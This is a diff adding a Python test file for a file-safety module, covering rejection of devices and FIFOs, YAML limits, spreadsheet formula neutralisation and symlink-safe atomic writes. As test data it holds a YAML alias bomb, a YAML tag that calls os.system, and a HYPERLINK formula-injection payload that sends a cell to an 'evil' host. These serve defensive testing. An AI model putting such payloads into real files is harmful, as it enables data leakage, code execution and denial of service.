@@ -1,0 +1,93 @@
+"""The guards every reader and writer of user files goes through."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+
+import pytest
+
+from innodrive.errors import InputError
+from innodrive.safeio import TRUNCATED_MARK, XLSX_MAX_CELL, atomic_write, load_yaml, read_input, safe_cell
+
+
+def test_read_input_refuses_devices_fifos_and_folders(tmp_path):
+    link = tmp_path / "zero.txt"
+    link.symlink_to("/dev/zero")
+    with pytest.raises(InputError, match="不是普通文件"):
+        read_input(link)
+    fifo = tmp_path / "pipe.txt"
+    os.mkfifo(fifo)
+    with pytest.raises(InputError, match="不是普通文件"):
+        read_input(fifo)
+    with pytest.raises(InputError, match="文件夹"):
+        read_input(tmp_path)
+    with pytest.raises(InputError, match="不存在"):
+        read_input(tmp_path / "missing.txt")
+
+
+def test_read_input_enforces_the_limit(tmp_path):
+    f = tmp_path / "big.txt"
+    f.write_bytes(b"x" * 2000)
+    assert read_input(f, limit=2000) == b"x" * 2000
+    with pytest.raises(InputError, match="超过上限"):
+        read_input(f, limit=1999)
+
+
+def test_yaml_alias_bomb_is_refused_quickly():
+    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
+        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
+        f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
+        for i in range(8))
+    with pytest.raises(InputError, match="展开后的节点超过"):
+        load_yaml(bomb, name="bomb.yaml")
+
+
+def test_yaml_bounds_on_depth_integers_and_tags():
+    with pytest.raises(InputError, match="嵌套"):
+        load_yaml("[" * 200 + "]" * 200, name="deep.yaml")
+    with pytest.raises(InputError, match="整数位数"):
+        load_yaml("n: " + "9" * 400, name="int.yaml")
+    with pytest.raises(InputError, match="YAML 格式错误"):
+        load_yaml("x: !!python/object/apply:os.system ['true']", name="tag.yaml")
+    assert load_yaml("a: [1, 2]\nb: {c: 3}", name="ok.yaml") == {"a": [1, 2], "b": {"c": 3}}
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "＝"])
+def test_safe_cell_neutralises_formula_leads(lead):
+    value = f'{lead}HYPERLINK("http://evil/"&A2,"点此")'
+    cell = safe_cell(value)
+    assert cell.startswith("'") and cell[1:] == value
+    assert safe_cell(-3.5) == -3.5 and safe_cell("乐山市") == "乐山市"
+
+
+def test_safe_cell_says_when_it_cuts():
+    cell = safe_cell("长" * (XLSX_MAX_CELL + 10))
+    assert len(cell) == XLSX_MAX_CELL and cell.endswith(TRUNCATED_MARK)
+
+
+def test_safe_csv_round_trip_has_no_formula():
+    buf = io.StringIO()
+    csv.writer(buf).writerow([safe_cell("=1+1"), safe_cell("@SUM(A1)")])
+    assert not any(c.startswith(("=", "@")) for c in next(csv.reader(io.StringIO(buf.getvalue()))))
+
+
+def test_atomic_write_replaces_a_symlink_instead_of_writing_through_it(tmp_path):
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep")
+    out = tmp_path / "out.json"
+    out.symlink_to(victim)
+    atomic_write(out, b"{}")
+    assert victim.read_text() == "keep"
+    assert not out.is_symlink() and out.read_bytes() == b"{}"
+
+
+def test_atomic_write_leaves_nothing_on_failure(tmp_path):
+    def boom(f):
+        f.write(b"half")
+        raise OSError(28, "No space left on device")
+
+    with pytest.raises(InputError, match="No space left"):
+        atomic_write(tmp_path / "x.xlsx", boom)
+    assert list(tmp_path.iterdir()) == []
